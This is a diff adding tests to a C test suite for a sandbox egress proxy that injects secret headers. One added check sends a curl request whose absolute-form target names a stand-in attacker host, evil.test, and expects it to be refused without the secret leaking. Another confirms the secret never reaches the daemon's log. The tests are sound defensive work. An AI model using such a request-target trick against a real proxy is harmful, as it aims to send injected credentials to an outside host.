@@ -814,6 +814,11 @@ Test(egress_dns, injected_header_arrives_and_the_secret_stays_outside)
               "the sandbox's header was forwarded: %s", out);
     cr_expect(strstr(out, "Connection: close"), "%s", out);
     free(out);
+    /* An absolute-form target names its own host: refused, nothing sent. */
+    out = curl_in(c, id, "-i --request-target http://evil.test/x", "http://api.test/");
+    cr_expect(strstr(out, "HTTP/1.1 400") && !strstr(out, secret) && !strstr(out, "Host:"),
+              "an absolute-form request to a rule's host: %s", out);
+    free(out);
     /* A host without a rule: nothing added, its own header as it was. */
     out = curl_in(c, id, "-H 'Authorization: mine'", "http://plain.test/");
     cr_expect(strstr(out, "Authorization: mine") && !strstr(out, secret),
@@ -872,6 +877,12 @@ Test(egress_dns, injected_header_arrives_and_the_secret_stays_outside)
         scanned = atoi(sc + 8);
     cr_expect_gt(scanned, 20, "the search read too little to mean anything: %s", out);
     free(out);
+    /* Nor in the daemon's log. */
+    char *log = NULL;
+    size_t loglen = 0;
+    cr_assert_eq(sbx_fs_read(live->log, 64 << 20, &log, &loglen), 0, "%s", live->log);
+    cr_expect(!memmem(log, loglen, secret, strlen(secret)), "the secret is in %s", live->log);
+    free(log);
     destroy(c, id);
     free(id);
     sbx_client_close(c);
